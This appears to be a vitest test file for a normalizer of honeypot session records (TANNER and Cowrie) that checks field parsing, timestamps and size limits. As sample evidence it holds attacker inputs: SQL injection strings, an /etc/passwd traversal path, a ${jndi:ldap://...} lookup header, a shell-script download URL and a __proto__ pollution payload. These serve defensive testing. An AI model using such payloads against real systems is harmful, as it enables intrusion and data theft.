import { expect, test } from 'vitest';
import { LIMITS } from './limits.ts';
import { normalize } from './normalize.ts';

const receivedAt = Date.UTC(2026, 0, 1);
const START = Date.UTC(2023, 9, 27);
const minimal = { sess_uuid: 'attack-sqli-001', peer_ip: '192.168.1.100', start_time: START };

function session(input: unknown) {
  const result = normalize(input, { receivedAt });
  if (!result.ok) throw new Error(result.error.message);
  return result.value;
}

function error(input: unknown) {
  const result = normalize(input, { receivedAt });
  if (result.ok) throw new Error('was accepted');
  return result.error;
}

test("TANNER's session with requests and a map of attack types", () => {
  const result = session({
    sess_uuid: 'attack-sqli-001',
    peer_ip: '192.168.1.100',
    peer_port: 54321,
    user_agent: 'sqlmap/1.5.2',
    start_time: START / 1000,
    attack_types: { '/login': 'sqli' },
    requests: [{ method: 'POST', path: '/login', headers: {}, cookies: {} }],
  });
  expect(result).toEqual({
    id: 'attack-sqli-001',
    client: '192.168.1.100',
    clientPort: 54321,
    userAgent: 'sqlmap/1.5.2',
    protocol: 'http',
    sensor: 'tanner',
    startedAt: START,
    endedAt: START,
    observations: [
      {
        kind: 'http',
        at: START,
        method: 'POST',
        target: '/login',
        headers: {},
        cookies: {},
        label: 'sql_injection',
      },
    ],
    observationCount: 1,
    labels: ['sql_injection'],
  });
});

test("TANNER's session with paths, location and owners", () => {
  const result = session({
    ...minimal,
    snare_uuid: 'snare-1',
    end_time: START / 1000 + 330,
    location: { country: 'Germany', country_code: 'de', city: 'Berlin', zip_code: '10115' },
    requests_in_second: 0.5,
    hidden_links: 2,
    attack_types: ['index', 'lfi'],
    attack_count: { index: 1, lfi: 1 },
    paths: [
      {
        path: '/b?f=../../etc/passwd',
        timestamp: START / 1000 + 20,
        response_status: 200,
        attack_type: 'lfi',
      },
      { path: '/a', timestamp: START / 1000 + 10, response_status: 404, attack_type: 'index' },
    ],
    possible_owners: { attacker: 1.0, tool: 0.25, user: -3 },
    cookies: { PHPSESSID: 'x', evil: "' OR 1=1" },
    referer: 'http://example.org/',
  });
  expect(result).toMatchObject({
    sensorId: 'snare-1',
    startedAt: START,
    endedAt: START + 330_000,
    country: 'DE',
    hiddenLinks: 2,
    labels: ['index', 'local_file_inclusion'],
    possibleOwners: { attacker: 1, tool: 0.25, user: 0 },
    observationCount: 2,
  });
  expect(
    result.observations.map((o) => o.kind === 'http' && [o.at - START, o.target, o.status, o.label]),
  ).toEqual([
    [10_000, '/a', 404, 'index'],
    [20_000, '/b?f=../../etc/passwd', 200, 'local_file_inclusion'],
  ]);
  expect(result.observations[1]).toMatchObject({
    cookies: { PHPSESSID: 'x', evil: "' OR 1=1" },
    headers: { referer: 'http://example.org/' },
  });
});

test('a shell session', () => {
  const result = session({
    ...minimal,
    sensor: 'cowrie',
    protocol: 'ssh',
    logins: [{ time: START + 1, username: 'root', password: 'toor\0', success: true }, { password: 'x' }],
    commands: [{ time: START + 2, input: 'uname -a; cat /proc/cpuinfo' }],
    downloads: [{ time: START + 3, url: 'http://198.51.100.1/x.sh', sha256: 'A'.repeat(64) }],
  });
  expect(result).toMatchObject({
    protocol: 'ssh',
    sensor: 'cowrie',
    endedAt: START + 3,
    observationCount: 3,
  });
  expect(result.observations).toEqual([
    { kind: 'login', at: START + 1, username: 'root', password: 'toor\0', success: true },
    { kind: 'command', at: START + 2, input: 'uname -a; cat /proc/cpuinfo' },
    { kind: 'download', at: START + 3, url: 'http://198.51.100.1/x.sh', sha256: 'a'.repeat(64) },
  ]);
});

test.each([
  ['192.168.1.1/24', '192.168.1.1'],
  ['::ffff:192.0.2.7', '192.0.2.7'],
  ['[2001:DB8:0:0::1]:443', '2001:db8::1'],
  ['fe80::1%eth0', 'fe80::1'],
  [' 192.0.2.1:8080\n', '192.0.2.1'],
  ['192.0.2.1\0', '192.0.2.1'],
])('address %j', (peer_ip, expected) => {
  expect(session({ ...minimal, peer_ip }).client).toBe(expected);
});

test.each([
  [54321, 54321],
  ['443', 443],
  [0, undefined],
  [65536, undefined],
  [-1, undefined],
  ['ssh', undefined],
  [null, undefined],
])('port %j', (peer_port, expected) => {
  expect(session({ ...minimal, peer_port }).clientPort).toBe(expected);
});

test('text is cleaned, evidence is not', () => {
  const result = session({
    ...minimal,
    sess_uuid: ' a\0b\n',
    user_agent: ' Mozilla/5.0\0 \t (X11)\r\n',
    requests: [
      {
        path: '/a\0b',
        method: 'post\r\n',
        headers: { 'X-Api-Version\n': `\${jndi:ldap://x}\0` },
        body: 'a\0\r\n\r\nb',
      },
    ],
  });
  expect(result).toMatchObject({ id: 'ab', userAgent: 'Mozilla/5.0 (X11)' });
  expect(result.observations[0]).toMatchObject({
    method: 'post',
    target: '/a%00b',
    headers: { 'x-api-version': `\${jndi:ldap://x}\0` },
    body: 'a\0\r\n\r\nb',
  });
});

test('times: start from the first request, end from the last, a start after it moved back', () => {
  const requests = [
    { path: '/2', timestamp: '2023-10-27T00:00:20Z' },
    { path: '/1', timestamp: START / 1000 + 10 },
    { path: '/1b', timestamp: 'nonsense' },
  ];
  const { start_time: _, ...timeless } = minimal;
  const result = session({ ...timeless, requests });
  expect([result.startedAt, result.endedAt]).toEqual([START + 10_000, START + 20_000]);
  expect(result.observations.map((o) => o.at - START)).toEqual([10_000, 10_000, 20_000]);
  expect(session({ ...minimal, start_time: START + 60_000, requests }).startedAt).toBe(START + 10_000);
  expect(session({ ...minimal, end_time: START - 5, requests }).endedAt).toBe(START + 20_000);
  expect(session({ ...minimal, start_time: 'never', requests }).startedAt).toBe(START + 10_000);
});

test('defaults: no agent but the header of the first request, the count as it was sent', () => {
  const headers = { 'User-Agent': 'curl/8\n' };
  const result = session({ ...minimal, request_count: '15', requests: [{ path: '/', headers }] });
  expect(result).toMatchObject({
    userAgent: 'curl/8',
    observationCount: 15,
    protocol: 'http',
    sensor: 'tanner',
  });
  expect(session(minimal)).toMatchObject({
    userAgent: '',
    observationCount: 0,
    labels: [],
    observations: [],
  });
  expect(session({ ...minimal, location: 'NA' })).not.toHaveProperty('country');
});

test.each([
  [undefined, 'not_an_object', ''],
  [[], 'not_an_object', ''],
  ['{}', 'not_an_object', ''],
  [{}, 'missing_field', 'sess_uuid'],
  [{ ...minimal, sess_uuid: ' \n' }, 'missing_field', 'sess_uuid'],
  [{ ...minimal, sess_uuid: 7 }, 'bad_value', 'sess_uuid'],
  [{ ...minimal, sess_uuid: 'x'.repeat(129) }, 'too_long', 'sess_uuid'],
  [{ ...minimal, peer_ip: null }, 'missing_field', 'peer_ip'],
  [{ ...minimal, peer_ip: '300.1.1.1' }, 'bad_address', 'peer_ip'],
  [{ ...minimal, peer_ip: { ip: '1.2.3.4' } }, 'bad_address', 'peer_ip'],
  [{ ...minimal, start_time: null }, 'missing_field', 'start_time'],
  [{ ...minimal, start_time: '99999-01-01T00:00:00Z' }, 'bad_time', 'start_time'],
  [{ ...minimal, start_time: receivedAt + 2 * 86_400_000 }, 'bad_time', 'start_time'],
])('refuses %#', (input, kind, field) => {
  expect(error(input)).toMatchObject({ kind, field });
  expect(error(input).message.length).toBeLessThan(300);
});

test('hostile names and sizes', () => {
  const names = Object.fromEntries(Array.from({ length: 100_000 }, (_, i) => [`k${i}`, 'v'.repeat(10)]));
  const result = session({
    ...minimal,
    attack_types: names,
    possible_owners: names,
    cookies: JSON.parse('{"__proto__":"polluted","constructor":"x"}'),
    requests: [
      { path: `/${'a'.repeat(1_000_000)}`, headers: names, body: 'b'.repeat(1_000_000) },
      ...Array.from({ length: 50_000 }, (_, i) => ({ path: `/${i}` })),
      { path: "/late?id=1' UNION SELECT password FROM users--" },
    ],
  });
  expect(result.observationCount).toBe(50_002);
  expect(result.observations).toHaveLength(LIMITS.firstObservations + LIMITS.oddObservations);
  expect(result.observations.at(-1)).toMatchObject({ target: expect.stringContaining('UNION') });
  const [first] = result.observations;
  expect(first?.kind === 'http' && Object.keys(first.headers)).toHaveLength(LIMITS.headers);
  expect(first?.kind === 'http' && Object.keys(first.cookies)).toEqual(['__proto__', 'constructor']);
  expect(Object.keys(result.possibleOwners ?? {})).toHaveLength(0);
  expect(result.labels).toEqual(['unknown']);
  expect(({} as { polluted?: string }).polluted).toBeUndefined();
});
